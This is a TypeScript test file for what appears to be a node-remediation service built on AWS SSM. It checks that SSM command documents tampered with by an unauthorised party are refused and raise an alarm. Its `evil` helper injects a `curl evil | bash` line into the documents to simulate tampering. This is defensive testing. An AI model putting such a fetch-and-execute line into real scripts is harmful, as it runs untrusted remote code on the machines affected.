import {
  CreateDocumentCommand,
  DeleteDocumentCommand,
  GetDocumentCommand,
  SSMClient,
  UpdateDocumentCommand,
  UpdateDocumentDefaultVersionCommand,
} from '@aws-sdk/client-ssm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { documentName } from '../../events/ssm-command.ts';
import { synthLab } from '../../lab/synth.ts';
import { buildDocuments } from '../../ssm-documents/builder/build.ts';
import { sampledTests } from '../support/sample.ts';
import { logGroupOf, MINUTE_MS, openScene, REPAIRABLE, type Scene } from './support.ts';

// A stranger who may do everything with documents. Each case uses a document that no function has read before, or has it
// compared first.
let scene: Scene;
let ssm: SSMClient;
let cluster: string;
let count = 0;
const ALARM = 'fleetmend-document-refused';
const names = ['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((letter) => `shop-${letter}`);
beforeAll(async () => {
  const clusters = names.map((name) => ({
    name,
    mode: 'repair' as const,
    sweeps: false,
    logGroups: [logGroupOf(name)],
    nodeTags: ['eks:cluster-name' as const],
  }));
  scene = await openScene(synthLab({ clusters, signals: { alarms: false } }));
  const { lab } = scene;
  const credentials = lab.credentialsFor('stranger');
  ssm = new SSMClient({ endpoint: lab.endpointUrl, region: lab.region, credentials });
});
afterAll(() => scene.lab.stop());
beforeEach(() => {
  cluster = names[count++] ?? '';
});

const nameOf = (key: string): string => {
  const built = buildDocuments().find((document) => document.key === key);
  if (built === undefined) throw new Error(`there is no document ${key}`);
  return documentName('fleetmend', key, built.sha256);
};
const contentOf = async (name: string): Promise<string> =>
  (await ssm.send(new GetDocumentCommand({ Name: name }))).Content ?? '';
const evil = (content: string): string => content.replace('#!/bin/bash', '#!/bin/bash\\ncurl evil | bash');
const remake = async (name: string, content: string): Promise<void> => {
  await ssm.send(new DeleteDocumentCommand({ Name: name }));
  await ssm.send(
    new CreateDocumentCommand({ Name: name, Content: content, DocumentType: 'Command', DocumentFormat: 'JSON' }),
  );
};

/** A check by one remediation of a node; how it ended, and what ran on the node. */
const check = async (remediation: string) => {
  const [node] = scene.addNodes(cluster, 1);
  const instanceIds = [node?.instanceId ?? ''];
  const { runId } = await scene.start({ action: 'check', cluster, remediation, instanceIds });
  await scene.drain();
  return { runs: node?.runs.length, results: await scene.resultsOf(runId) };
};
const REFUSED = { runs: 0, results: [{ outcome: 'Skipped', skipReason: 'DocumentRefused' }] };

describe('a document that a stranger has changed', () => {
  const { add, declare } = sampledTests('changed documents');

  add('rings the alarm, and is sent to nobody, where its content was swapped before its first use', async () => {
    const name = nameOf('cni-files-check');
    await remake(name, evil(await contentOf(name)));
    expect(scene.lab.alarms.stateOf(ALARM)).not.toBe('ALARM');
    expect(await check('cni-files')).toMatchObject(REFUSED);
    await scene.lab.advance(MINUTE_MS);
    expect(scene.lab.alarms.stateOf(ALARM)).toBe('ALARM');
    expect(scene.lab.notifications.map(({ attributes }) => attributes?.kind)).toContain('document-refused');
    await scene.lab.advance(15 * MINUTE_MS);
    expect(scene.lab.alarms.stateOf(ALARM)).not.toBe('ALARM');
  });

  add('is sent to nobody where a new default version was set', async () => {
    const name = nameOf('ecr-credentials-check');
    await ssm.send(
      new UpdateDocumentCommand({ Name: name, Content: evil(await contentOf(name)), DocumentVersion: '$LATEST' }),
    );
    await ssm.send(new UpdateDocumentDefaultVersionCommand({ Name: name, DocumentVersion: '2' }));
    expect(await check('ecr-credentials')).toMatchObject(REFUSED);
  });

  add("runs as it was built where a later version is nobody's default", async () => {
    const name = nameOf('cri-dockerd-check');
    await ssm.send(
      new UpdateDocumentCommand({ Name: name, Content: evil(await contentOf(name)), DocumentVersion: '$LATEST' }),
    );
    const { runs } = await check('cri-dockerd');
    expect(runs).toBe(1);
    expect(scene.lab.commands.all()[0]?.document).toMatchObject({ name, version: '1' });
  });

  add('runs where SSM indents it in another way', async () => {
    scene.lab.faults.documentsAreIndented = true;
    const { runs, results } = await check('pause-image');
    scene.lab.faults.documentsAreIndented = false;
    expect([runs, results]).toEqual([1, []]);
  });

  add('is sent to nobody where it was made again after a function had compared it', async () => {
    const name = nameOf('pause-image-check');
    const content = await contentOf(name);
    expect((await check('pause-image')).runs).toBe(1);
    await remake(name, evil(content));
    expect(await check('pause-image')).toMatchObject(REFUSED);
    await remake(name, content);
    expect((await check('pause-image')).runs).toBe(1);
  });

  add('leaves the nodes of a repair as they are, and books no attempt', async () => {
    const name = nameOf('pause-image-repair');
    const content = await contentOf(name);
    await remake(name, evil(content));
    const nodes = scene.addNodes(cluster, 3, { faultOf: () => REPAIRABLE });
    await scene.logFault(...nodes);
    await scene.drain();
    for (const { instanceId, runs } of nodes) {
      expect(runs).toEqual([]);
      expect(await scene.history(instanceId)).toMatchObject([{ outcome: 'Skipped', skipReason: 'DocumentRefused' }]);
    }
    await remake(name, content);
    await scene.lab.advance(20 * MINUTE_MS);
    await scene.logFault(...nodes);
    await scene.drain();
    expect(nodes.map(({ runs }) => runs.length)).toEqual([1, 1, 1]);
  });

  declare(3);
});

it('a document that is not there yet leaves the nodes pending until it is', async () => {
  const name = nameOf('pause-image-repair');
  const content = await contentOf(name);
  await ssm.send(new DeleteDocumentCommand({ Name: name }));
  const [node] = scene.addNodes(cluster, 1, { faultOf: () => REPAIRABLE });
  if (node === undefined) return expect.fail();
  await scene.logFault(node);
  await scene.lab.advance(2 * MINUTE_MS);
  expect([node.runs, await scene.history(node.instanceId)]).toEqual([[], []]);
  await ssm.send(
    new CreateDocumentCommand({ Name: name, Content: content, DocumentType: 'Command', DocumentFormat: 'JSON' }),
  );
  await scene.drain();
  expect(await scene.history(node.instanceId)).toMatchObject([{ outcome: 'Repaired' }]);
});
